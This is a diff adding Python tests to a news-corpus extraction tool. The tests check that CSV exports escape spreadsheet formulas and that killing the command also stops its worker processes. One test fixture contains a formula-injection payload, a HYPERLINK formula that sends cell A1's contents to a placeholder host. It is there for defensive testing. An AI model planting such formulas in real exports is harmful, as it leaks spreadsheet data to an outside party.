@@ -273,6 +273,57 @@ def test_csv_exports_neutralise_formulas_and_parquet_keeps_the_text(tmp_path: Pa
     assert load_corpus(tmp_path / "tables").articles.set_index("id").loc["=x", "body"].startswith(FORMULA)
 
 
+def test_the_table_store_in_csv_neutralises_formulas_and_reads_the_text_back(tmp_path: Path):
+    """`extract --out DIR --format csv`: a headline and quotes that would start a formula get a leading apostrophe
+    in the CSV files; the tables read back from them (and the review applied to them) hold the text as it is."""
+    import csv as csv_module
+
+    from peacetalks.tables.publish import read_tables
+
+    headline = '=HYPERLINK("http://example.invalid/?"&A1,"Envoys Meet in Geneva")'
+    quote = "+Moscow said on Tuesday it would host the peace talks in Geneva."
+    folder = tmp_path / "corpus"
+    folder.mkdir()
+    (folder / "a.txt").write_text(f"{headline}\n\nMarch 15, 2016\n\n{quote}\n\n-Ankara welcomed the truce, officials said.\n",
+                                  encoding="utf-8")
+    (folder / "review.csv").write_text("article_id,action,actor,issue,polarity,quote,note\n"
+                                       f"a,confirm,russia,negotiations,1,{quote},@checked\n", encoding="utf-8")
+    result = run_cli("extract", str(folder), "--out", str(tmp_path / "tables"), "--format", "csv", "--workers", "1")
+    assert result.returncode == 0, result.stderr
+    for name in ("articles", "casualties", "stances", "machine_stances", "problems"):
+        with open(tmp_path / "tables" / f"{name}.csv", encoding="utf-8", newline="") as handle:
+            for row in csv_module.reader(handle):
+                assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), (name, row)
+    with open(tmp_path / "tables" / "articles.csv", encoding="utf-8", newline="") as handle:
+        [article] = list(csv_module.DictReader(handle))
+    assert article["title"] == "'" + headline and article["body"].startswith("'" + quote)
+    back = read_tables(tmp_path / "tables")
+    assert back["articles"].loc[0, "title"] == headline and back["articles"].loc[0, "body"].startswith(quote)
+    stances = back["stances"].set_index("actor")
+    assert stances.loc["russia", "quote"] == quote and stances.loc["russia", "coded_by"] == "machine, confirmed"
+    assert stances.loc["russia", "note"] == "@checked"
+    assert stances.loc["turkey", "quote"] == "-Ankara welcomed the truce, officials said."
+
+
+def test_the_apostrophe_added_for_a_spreadsheet_is_exactly_the_one_taken_off():
+    import pandas as pd
+    import pyarrow as pa
+
+    from peacetalks import tables
+
+    cells = ["=SUM(A1)", "'=SUM(A1)", "''+1", "'quoted'", "plain", None, "-1", "\tindented", "@name", "\rx", ""]
+    def listed(column: pd.Series) -> list:
+        return [None if pd.isna(value) else value for value in column]  # an empty cell: None or NaN, both written ""
+
+    safe = listed(tables.spreadsheet_safe(pd.DataFrame({"text": cells}))["text"])
+    assert safe == ["'=SUM(A1)", "''=SUM(A1)", "'''+1", "'quoted'", "plain", None, "'-1", "'\tindented", "'@name",
+                    "'\rx", ""]
+    assert listed(tables.spreadsheet_text(pd.DataFrame({"text": safe}))["text"]) == cells
+    arrow = pa.table({"text": pa.array(cells, pa.string()), "n": pa.array(range(len(cells)))})
+    assert tables.spreadsheet_safe_arrow(arrow).column("text").to_pylist() == safe
+    assert tables.spreadsheet_text_arrow(tables.spreadsheet_safe_arrow(arrow)).equals(arrow)
+
+
 def test_figure_data_csv_is_spreadsheet_safe(tmp_path: Path):
     import matplotlib
     import pandas as pd
@@ -324,7 +375,7 @@ def _alive(pids: set[int]) -> set[int]:
     return alive
 
 
-def _start_extraction(tmp_path: Path) -> tuple[subprocess.Popen[str], set[int]]:
+def _start_extraction(tmp_path: Path, *options: str) -> tuple[subprocess.Popen[str], set[int]]:
     import time
 
     if sys.platform != "linux":
@@ -334,13 +385,13 @@ def _start_extraction(tmp_path: Path) -> tuple[subprocess.Popen[str], set[int]]:
                    capture_output=True)
     process = subprocess.Popen(
         [sys.executable, "-m", "peacetalks", "extract", str(corpus), "--out", str(tmp_path / "tables"),
-         "--workers", "2", "--chunk-size", "20"],
+         "--workers", "2", "--chunk-size", "20", *options],
         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
     deadline = time.monotonic() + 120
     while time.monotonic() < deadline:
         started = _descendants(process.pid)
         if len(started) >= 3 and any((tmp_path / "tables" / ".work" / "parts" / "keys").glob("*.parquet")):
-            return process, started  # the server and two workers, extracting
+            return process, started  # the server (or Dask's resource tracker) and two workers, extracting
         if process.poll() is not None:
             break
         time.sleep(0.1)
@@ -361,6 +412,20 @@ def test_killing_the_command_takes_the_fork_server_and_workers_with_it(tmp_path:
     process, started = _start_extraction(tmp_path)
     try:
         os.kill(process.pid, 9)  # the command alone, as `kill -9 PID` or the out-of-memory killer would
+        process.wait(timeout=30)
+        assert _wait_gone(started) == set()
+    finally:
+        for pid in _alive(started):
+            os.kill(pid, 9)
+
+
+def test_killing_the_command_takes_the_workers_of_a_local_dask_cluster_with_it(tmp_path: Path):
+    """`--engine dask` without a scheduler starts a local cluster of worker processes: killing the command takes
+    them with it too (Dask's own guard: each worker process exits when the pipe its parent holds closes)."""
+    pytest.importorskip("distributed")
+    process, started = _start_extraction(tmp_path, "--engine", "dask")
+    try:
+        os.kill(process.pid, 9)
         process.wait(timeout=30)
         assert _wait_gone(started) == set()
     finally:
